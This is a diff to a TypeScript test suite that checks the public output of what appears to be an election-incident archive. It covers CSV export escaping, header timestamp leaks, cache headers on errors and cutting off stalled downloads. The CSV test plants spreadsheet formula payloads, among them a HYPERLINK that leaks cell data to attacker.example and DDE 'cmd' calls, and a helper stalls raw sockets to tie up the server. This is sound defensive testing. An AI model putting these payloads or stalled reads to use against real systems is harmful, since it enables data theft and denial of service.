@@ -1,14 +1,16 @@
 import { execFileSync } from 'node:child_process';
-import { randomBytes } from 'node:crypto';
+import { randomBytes, randomUUID } from 'node:crypto';
+import fs from 'node:fs';
 import http from 'node:http';
+import net from 'node:net';
 import { parse as parseCsv } from 'csv-parse/sync';
 import sharp from 'sharp';
 import * as catalogRepo from '../../db/catalog.repo';
 import * as mediaRepo from '../../db/media.repo';
 import { ConfigError, parseConfig } from '../../domain/config';
 import { Client, loggedInClient, submissionForm, type UploadFile } from '../helpers/http';
-import { startSystem, type TestSystem } from '../helpers/system';
-import { publish, uniquePng, uploadAndProcess, withdraw } from './archive-helpers';
+import { startSystem, waitFor, type TestSystem } from '../helpers/system';
+import { ownElection, publish, uniquePng, uploadAndProcess, withdraw } from './archive-helpers';
 
 /**
  * What the public side hands out, attacked from outside: spreadsheet formulas in the CSV export,
@@ -41,7 +43,7 @@ async function uniqueJpeg(name: string): Promise<UploadFile> {
   return { name, data, type: name.endsWith('.html') ? 'text/html' : 'application/x-msdownload' };
 }
 
-const FORMULA_START = /^[=+\-@\t\r]/;
+const FORMULA_START = /^[=+\-@\t\r\n]/;
 /** What XML 1.0 allows (https://www.w3.org/TR/xml/#charsets); anything else makes a feed unreadable. */
 const XML_FORBIDDEN = /[^\t\n\r\x20-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/u;
 
@@ -83,13 +85,16 @@ describe('public output', () => {
 
   test('CSV export: a cell a spreadsheet would run as a formula starts with a quote; the JSON export is exact', async () => {
     const sent: Record<string, { region: string; title: string; description: string }> = {};
+    // OWASP's list also has line feed: a category label an admin typed starts with one.
+    const category = `t_lf_${randomBytes(4).toString('hex')}`;
+    await catalogRepo.insertCategory(system.ctx.db, { code: category, phaseCode: 'voting_day', labelRu: '\n=Категория', labelEn: '\n=Category' });
     for (const c of ['=', '+', '-', '@']) {
       const text = {
         region: `${c}HYPERLINK("http://attacker.example/?leak="&A1,"Москва")`,
         title: `${c}cmd|' /C calc'!A0`,
         description: `${c}SUM(1+1)*cmd|' /C calc'!A0 ${nonce}`,
       };
-      const id = await uploadAndProcess(system, base({ region: text.region, description: text.description }), [await uniquePng()]);
+      const id = await uploadAndProcess(system, base({ region: text.region, description: text.description, category_code: category }), [await uniquePng()]);
       await publish(moderator, id, { public_title: text.title });
       sent[id] = text;
     }
@@ -107,7 +112,7 @@ describe('public output', () => {
       expect(record.election_en).toMatch(/^\t=Election/);
       expect(record.election_ru).toMatch(/^\r=Выборы/);
       const row = csvRecords.find((r) => r.id === record.id)!;
-      for (const column of ['region', 'title', 'description', 'election_en', 'election_ru']) {
+      for (const column of ['region', 'title', 'description', 'election_en', 'election_ru', 'category_en', 'category_ru']) {
         expect({ column, cell: row[column] }).toEqual({ column, cell: `'${record[column]}` });
       }
       for (const [column, cell] of Object.entries(row)) {
@@ -260,6 +265,36 @@ describe('public output', () => {
       }
     }, 60_000);
 
+    test('no header of a public file says when it was received or made (the public sees receive times coarsened)', async () => {
+      const now = Date.now();
+      /** Numbers in a header, hex or decimal, that read as an instant of the last day in ms or s since the epoch. */
+      const instants = (value: string) =>
+        [...value.matchAll(/[0-9a-f]{8,12}/gi)]
+          .flatMap((m) => [parseInt(m[0], 16), Number(m[0])])
+          .filter((n) => (n > now - 86_400_000 && n <= now) || (n > (now - 86_400_000) / 1000 && n <= now / 1000));
+      for (const path of publicPaths().filter((p) => p.startsWith('/media/'))) {
+        const res = await raw(system.url, path);
+        const headers = Object.entries(res.headers).filter(([name]) => name !== 'date');
+        expect({ path, instants: headers.flatMap(([name, value]) => instants(String(value)).map((n) => `${name}: ${n}`)) }).toEqual({ path, instants: [] });
+      }
+    });
+
+    test('no error answer may be kept by a cache: a proof or tree head not signed yet is not "missing" for a year', async () => {
+      const future = Number.MAX_SAFE_INTEGER - 1;
+      const paths = [
+        `/api/v1/log/sth/${future}`,
+        `/api/v1/log/proof/inclusion?leaf_hash=${'ab'.repeat(32)}&tree_size=${future}`,
+        `/api/v1/log/proof/consistency?first=1&second=${future}`,
+        `/media/${randomUUID()}/original`,
+        `/api/v1/entries/${randomUUID()}`,
+        `/archive/${randomUUID()}`,
+      ];
+      for (const path of paths) {
+        const res = await raw(system.url, path);
+        expect({ path, error: res.status >= 400, cacheControl: res.headers['cache-control'] }).toEqual({ path, error: true, cacheControl: 'no-store' });
+      }
+    });
+
     test('withdrawable material is revalidated: short max-age, an ETag, a 304 while published and none after withdrawal', async () => {
       const paths = [`/media/${fileId}/original`, `/media/${fileId}/published.jpg`, `/media/${fileId}/thumb.jpg`, `/archive/${entryId}`, `/api/v1/entries/${entryId}`];
       const etags: Record<string, string> = {};
@@ -291,4 +326,65 @@ describe('public output', () => {
       }
     }, 120_000);
   });
+});
+
+describe('a download that is never read', () => {
+  const STALL_SECONDS = 2;
+  let system: TestSystem;
+  const sockets: net.Socket[] = [];
+  beforeAll(async () => {
+    system = await startSystem({ env: { EXPORT_STALL_SECONDS: String(STALL_SECONDS), PUBLIC_MEDIA_REQUESTS_PER_MINUTE: '100000' } });
+  }, 60_000);
+  afterAll(async () => {
+    for (const socket of sockets) socket.destroy();
+    await system?.stop();
+  });
+
+  /** A GET over a raw socket that reads the response head, then stops reading: the kernel's buffers fill up. */
+  function stalledGet(path: string, cookie = ''): Promise<{ status: number; readToEnd: () => Promise<number> }> {
+    const { hostname, port } = new URL(system.url);
+    const socket = net.connect(Number(port), hostname);
+    sockets.push(socket);
+    socket.on('error', () => {});
+    let received = 0;
+    const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
+    socket.write(`GET ${path} HTTP/1.1\r\nHost: ${hostname}:${port}\r\nConnection: close\r\n${cookie ? `Cookie: ${cookie}\r\n` : ''}\r\n`);
+    return new Promise((resolve) =>
+      socket.once('data', (chunk: Buffer) => {
+        socket.pause();
+        const head = chunk.toString('latin1');
+        received = chunk.length - head.indexOf('\r\n\r\n') - 4;
+        socket.on('data', (more: Buffer) => (received += more.length));
+        resolve({
+          status: Number(/^HTTP\/1\.1 (\d{3})/.exec(head)?.[1]),
+          /** Reads what is left until the connection closes: the bytes that arrived after the head (chunked). */
+          readToEnd: async () => {
+            socket.resume();
+            await closed;
+            return received;
+          },
+        });
+      }),
+    );
+  }
+
+  test('of a large original, public or a moderator’s, is cut off within the stall window and its descriptors released', async () => {
+    const moderator = await loggedInClient(system.ctx, system.url);
+    const election = await ownElection(system, 'stalled-download');
+    // 40 MB: far more than a loopback socket that is not read buffers, so the server really blocks writing
+    const big = await uniqueJpeg('big.jpg');
+    const file = { ...big, data: Buffer.concat([big.data, Buffer.alloc(40 * 1024 * 1024, 7)]) };
+    const id = await uploadAndProcess(system, { election_id: String(election.id), region: 'Москва', station_number: '4713', category_code: 'ballot_stuffing', description: 'Большой файл' }, [file]);
+    await publish(moderator, id, { original_downloadable: true });
+    const fileId = (await mediaRepo.listMediaFiles(system.ctx.db, id))[0]!.id;
+    const fds = () => fs.readdirSync('/proc/self/fd').length; // the server runs in this process
+    const fdsBefore = fds();
+
+    const stalled = [await stalledGet(`/media/${fileId}/original`), await stalledGet(`/moderation/files/${fileId}/original`, moderator.cookieHeader())];
+    expect(stalled.map((s) => s.status)).toEqual([200, 200]);
+    // Each held a socket and the open file; before, for as long as the client liked.
+    expect(fds()).toBeGreaterThanOrEqual(fdsBefore + 4);
+    await waitFor(async () => fds() <= fdsBefore, STALL_SECONDS * 1000 + 3000, `the stalled downloads to be cut off and give back their descriptors (${fds()} open, ${fdsBefore} before)`);
+    for (const download of stalled) expect(await download.readToEnd()).toBeLessThan(file.data.length);
+  }, 180_000);
 });
